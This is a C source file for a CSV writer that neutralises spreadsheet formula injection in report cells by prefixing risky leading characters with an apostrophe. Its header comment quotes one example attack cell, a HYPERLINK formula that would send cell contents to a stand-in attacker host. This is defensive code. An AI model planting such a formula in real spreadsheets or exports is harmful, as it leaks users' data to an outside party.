/*
 * csvout.c -- CSV for spreadsheets.
 *
 * The reports go to coordinators who open them in Excel or LibreOffice,
 * and the cells hold names and titles that anyone may have typed. A cell
 * such as =HYPERLINK("http://evil.example/?"&A1) would run as a formula
 * there (CSV injection), so a text cell that a spreadsheet would read as
 * one starts with "'", as OWASP recommends. Numbers that the client
 * formats itself from JSON numbers are left as they are: "-206" days is
 * a number to a spreadsheet, not a formula, and must stay sortable.
 */
#include <stdlib.h>
#include <string.h>

#include "output.h"
#include "csvout.h"

/* 1 if s is a plain decimal number: "-206", "32.5", "0". */
static int
csvout_is_number(const char *s)
{
	size_t	i = 0, digits = 0;

	if (s[i] == '-')
		i++;
	for (; s[i] >= '0' && s[i] <= '9'; i++)
		digits++;
	if (digits == 0)
		return 0;
	if (s[i] == '.') {
		for (i++, digits = 0; s[i] >= '0' && s[i] <= '9'; i++)
			digits++;
		if (digits == 0)
			return 0;
	}
	return s[i] == '\0';
}

/* The field for one cell; the caller frees it. */
char *
csvout_field(const char *cell, int kind)
{
	const char	*p;
	char		*clean, *out, *q;
	size_t		 len, quotes = 0;
	int		 prefix, quote;

	if ((clean = output_scrub(cell != NULL ? cell : "",
	    OUTPUT_KEEP_NEWLINE | OUTPUT_KEEP_TAB | OUTPUT_KEEP_CR)) == NULL)
		return NULL;
	prefix = clean[0] != '\0' && strchr("=+-@\t\r", clean[0]) != NULL &&
	    !(kind == CSVOUT_NUMBER && csvout_is_number(clean));
	quote = strpbrk(clean, ",\"\r\n") != NULL;
	for (p = clean; (p = strchr(p, '"')) != NULL; p++)
		quotes++;
	len = strlen(clean);
	if ((out = malloc(len + quotes + 4)) == NULL) {
		free(clean);
		return NULL;
	}
	q = out;
	if (quote)
		*q++ = '"';
	if (prefix)
		*q++ = '\'';
	for (p = clean; *p != '\0'; p++) {
		if (*p == '"')
			*q++ = '"';
		*q++ = *p;
	}
	if (quote)
		*q++ = '"';
	*q = '\0';
	free(clean);
	return out;
}

/* Write one record and its CRLF. */
int
csvout_row(FILE *out, const char *const *cells, const int *kinds, size_t n)
{
	char	*field;
	size_t	 i;

	for (i = 0; i < n; i++) {
		field = csvout_field(cells[i], kinds != NULL ? kinds[i] :
		    CSVOUT_TEXT);
		if (field == NULL)
			return -1;
		if (i > 0)
			fputc(',', out);
		fputs(field, out);
		free(field);
	}
	fputs("\r\n", out);
	return ferror(out) ? -1 : 0;
}
